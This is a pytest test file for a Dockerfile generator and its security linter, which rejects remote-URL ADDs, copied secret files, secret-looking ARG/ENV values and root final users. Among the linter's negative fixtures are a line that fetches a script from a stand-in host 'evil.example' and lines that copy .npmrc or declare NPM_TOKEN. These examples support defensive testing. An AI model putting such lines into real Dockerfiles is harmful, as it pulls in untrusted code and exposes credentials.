"""Every generated Dockerfile parsed with BuildKit's own parser (the `dockerfile` package).

Checked for each target: `# syntax` first; every stage named by FROM, `COPY --from` or
`RUN --mount=...,from=` is defined above or is one of the target's bake named contexts;
every FROM of a base stage is provided by the target's `contexts`; a non-root USER ends
every service image; no ADD of a URL; no secret-looking file copied; no ARG/ENV that looks
like a secret; every shell line parses; every `.dockerignore` admits only existing paths
and ends with the fixed exclusions. See tests/dockerlint.py.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from bakegen.pipeline import generate
from tests.builders import (
    REAL_WORKSPACES,
    SAMPLE,
    copy_real_workspace,
    copy_sample,
    write_config,
    write_tree,
)
from tests.dockerlint import lint_dockerfile, lint_files, lint_generated, secret_files_admitted
from tests.workspaces import LAYOUTS, Pkg, Spec, files, specs

SYNTAX = "# syntax=docker/dockerfile:1\n"


def test_the_committed_sample_output_is_clean() -> None:
    assert lint_generated(SAMPLE) == []
    assert secret_files_admitted(SAMPLE) == []


def test_the_sample_generated_afresh_is_clean(tmp_path: Path) -> None:
    repo = copy_sample(tmp_path)
    shutil.rmtree(repo / "docker")
    (repo / "docker-bake.hcl").unlink()
    result = generate(repo)
    assert len(result.plan.services) == 4
    assert lint_files(result.files, repo) == []


@pytest.mark.parametrize("runtime", ["gcr.io/distroless/cc-debian12", "node:22-alpine"])
def test_other_runtime_images_stay_clean(tmp_path: Path, runtime: str) -> None:
    repo = copy_sample(tmp_path)
    write_config(repo,
        f'[images.node]\nruntime = "{runtime}"\n[images.cargo]\nruntime = "{runtime}"\n'
        '[secrets]\nnpmrc = "~/.npmrc"\nnetrc = "env:NETRC"\n'
    )
    assert lint_files(generate(repo).files, repo) == []


@pytest.mark.parametrize(("ecosystem", "manager"), LAYOUTS)
@pytest.mark.parametrize("below", ["", "platform/mono repo"])
def test_every_layout_is_clean(tmp_path: Path, ecosystem: str, manager: str, below: str) -> None:
    spec = Spec(ecosystem, manager, (
        Pkg("core", "core", (), False),
        Pkg("util", "util", (0,), False),
        Pkg("api", "api", (0, 1), True),
        Pkg("worker", "worker", (1,), True, (2,)),
    ), below)
    write_tree(tmp_path, files(spec))
    result = generate(tmp_path)
    assert {s.package.name for s in result.plan.services} == {"api", "worker"}
    assert lint_files(result.files, tmp_path) == []


def test_a_poetry_project_is_clean(tmp_path: Path) -> None:
    write_tree(tmp_path, {
        "svc/pyproject.toml": '[tool.poetry]\nname = "svc"\nversion = "1"\n\n'
        '[tool.poetry.dependencies]\npython = "^3.11"\nlib = { path = "../lib" }\n\n'
        '[tool.poetry.scripts]\nsvc = "svc:main"\n\n[build-system]\n'
        'requires = ["poetry-core>=1.0.0"]\nbuild-backend = "poetry.core.masonry.api"\n',
        "svc/poetry.lock": "",
        "lib/pyproject.toml": '[tool.poetry]\nname = "lib"\nversion = "1"\n',
    })
    assert lint_files(generate(tmp_path).files, tmp_path) == []


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                  HealthCheck.too_slow])
@given(spec=specs(hostile=False, cycles=False))
def test_random_workspaces_are_clean(tmp_path_factory: pytest.TempPathFactory, spec: Spec) -> None:
    root = tmp_path_factory.mktemp("random")
    write_tree(root, files(spec))
    assert lint_files(generate(root).files, root) == []


@pytest.mark.parametrize(
    "name", sorted(p.name for p in REAL_WORKSPACES.iterdir() if p.is_dir())
    if REAL_WORKSPACES.is_dir() else ["documenso"],
)
def test_real_workspaces_are_clean(tmp_path: Path, name: str) -> None:
    repo = copy_real_workspace(name, tmp_path)
    result = generate(repo)
    assert lint_files(result.files, repo) == []


# -- the linter itself: each rule catches what it is for ---------------------------------------


@pytest.mark.parametrize(
    ("text", "contexts", "expected"),
    [
        (SYNTAX + "FROM deps-base AS build\nFROM production-base\nUSER 1\n", ("deps-base",),
         "FROM production-base, which no stage and no bake context provides"),
        (SYNTAX + "FROM a AS b\nCOPY --from=nowhere /x /y\nUSER 1\n", (),
         "--from=nowhere names no stage or bake context"),
        (SYNTAX + "FROM a\nRUN --mount=type=bind,from=gone,target=/x true\nUSER 1\n", (),
         "--mount from=gone names no stage or bake context"),
        (SYNTAX + "FROM a\nADD https://evil.example/x.sh /x\nUSER 1\n", (),
         "ADD of a remote URL"),
        (SYNTAX + "FROM a\nCOPY .npmrc ./\nUSER 1\n", (), "copies a secret-looking file"),
        (SYNTAX + "FROM a\nARG NPM_TOKEN\nUSER 1\n", (), "build argument NPM_TOKEN"),
        (SYNTAX + "FROM a\nENV PYPI_PASSWORD=x\nUSER 1\n", (), "PYPI_PASSWORD looks like"),
        (SYNTAX + "FROM a\nRUN --mount=type=secret,id=x,required=true true\nUSER 1\n", (),
         "a required secret mount"),
        (SYNTAX + "FROM a\nRUN yarn workspace 'a\nb' run build\nUSER 1\n", (),
         "unexpected instruction"),
        (SYNTAX + "FROM a\nRUN echo 'unbalanced\nUSER 1\n", (), "shell line does not parse"),
        (SYNTAX + "FROM a\nCOPY [\"/out/$HOME\", \"/x\"]\nUSER 1\n", (), "unescaped $"),
        (SYNTAX + "FROM a\nWORKDIR /w/$X\nUSER 1\n", (), "unescaped $"),
        (SYNTAX + "FROM ${IMAGE}\nUSER 1\n", (), "not declared by an ARG"),
        (SYNTAX + "FROM a\n", (), "final stage runs as the image default user"),
        (SYNTAX + "FROM a\nUSER 0:0\n", (), "final stage runs as 0:0"),
        ("FROM a\nRUN --mount=type=secret,id=t,env=T true\nUSER 1\n", (),
         "mounts a secret as env= without"),
        ("FROM a\n" + SYNTAX + "USER 1\n", (), "a # syntax directive that is not the first"),
    ],
)
def test_the_linter_catches(text: str, contexts: tuple[str, ...], expected: str) -> None:
    problems = lint_dockerfile(text, "Dockerfile", frozenset(contexts), ships=True)
    assert any(expected in p for p in problems), problems


def test_the_linter_accepts_a_good_service_dockerfile() -> None:
    text = SYNTAX + (
        "FROM deps-base AS build\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc true\n"
        "FROM production-base\nCOPY --from=build /out/ ./\n"
        'COPY ["a\\\\$b", "/x"]\nUSER 10001:10001\nCMD ["node"]\n'
    )
    assert lint_dockerfile(text, "x", frozenset({"deps-base", "production-base"}), True) == []
